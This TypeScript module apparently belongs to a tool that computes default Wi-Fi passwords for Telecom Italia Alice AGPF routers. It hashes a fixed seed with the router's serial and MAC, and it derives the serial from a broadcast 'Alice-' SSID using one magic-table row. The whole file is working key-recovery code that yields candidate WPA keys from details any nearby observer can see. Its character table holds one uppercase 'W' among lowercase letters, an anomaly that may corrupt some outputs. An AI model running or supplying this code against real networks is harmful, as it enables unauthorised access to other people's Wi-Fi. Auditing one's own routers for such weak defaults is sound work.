/**
 * Telecom Italia Alice AGPF (`Alice-XXXXXXXX`), reference §2.7: SHA-256 over a fixed 32-byte seed, the serial and
 * the 6 MAC bytes, mapped through a biased 256-character table.
 *
 * Partial reference: the magic table that maps an SSID's first 3 digits to (serial prefix, k, Q, OUI) is not in the
 * reference except for row 538, and post-4.5.0sx variants are left out. The replay therefore uses (a) the serial
 * column when it looks like an AGPF serial (`67903X0178409`), and (b) an `Alice-` SSID with row 538.
 */
import { macHex, sha256, type Identifiers, type KnownScheme } from './known-scheme.js';

const SEED = Buffer.from('64C6DDE3E579B6D986968D3445D23B15CAAF128402AC560005CE2075913FDCE8', 'hex');
const TABLE = `${'0123456789abcdefghijklmnopqrstuvwxyz'.repeat(6)}0123456789abcdefghijklmnopqrstuvWxyz0123`;
/** The one magic-table row the reference gives: SSID prefix 538. */
const MAGIC_ROWS: Readonly<Record<string, { serialPrefix: string; k: number; q: number }>> = {
  '538': { serialPrefix: '67903', k: 8, q: 52420681 },
};

/** @example aliceKey('67903X0178409', '00255335A791') // '7nfyuqlahytaml3bkcjasmtf' */
export function aliceKey(serial: string, macHex12: string): string {
  const h = sha256(Buffer.concat([SEED, Buffer.from(serial, 'ascii'), Buffer.from(macHex12, 'hex')]));
  let key = '';
  for (let i = 0; i < 24; i++) key += TABLE[h[i] ?? 0] ?? '';
  return key;
}

/** The serial of an `Alice-NNNNNNNN` SSID from the magic table, or null when its row is not known. */
export function aliceSerialFromSsid(ssid: string): string | null {
  const m = /^Alice-(\d{8})$/i.exec(ssid.trim());
  if (!m?.[1]) return null;
  const row = MAGIC_ROWS[m[1].slice(0, 3)];
  if (!row) return null;
  const sn = (Number(m[1]) - row.q) / row.k;
  if (!Number.isInteger(sn) || sn < 0) return null;
  return `${row.serialPrefix}X${String(sn).padStart(7, '0')}`;
}

export const aliceAgpf: KnownScheme = {
  id: 'alice-agpf',
  name: 'Telecom Italia Alice AGPF (reference §2.7; magic table only row 538)',
  candidates(ids: Identifiers) {
    const mac = macHex(ids);
    if (!mac) return [];
    const serials = new Set<string>();
    const serial = (ids['serial'] ?? '').trim().toUpperCase();
    if (/^\d{5}X\d{7}$/.test(serial)) serials.add(serial);
    const fromSsid = aliceSerialFromSsid(ids['ssid'] ?? '');
    if (fromSsid) serials.add(fromSsid);
    return [...serials].map((s) => aliceKey(s, mac));
  },
};
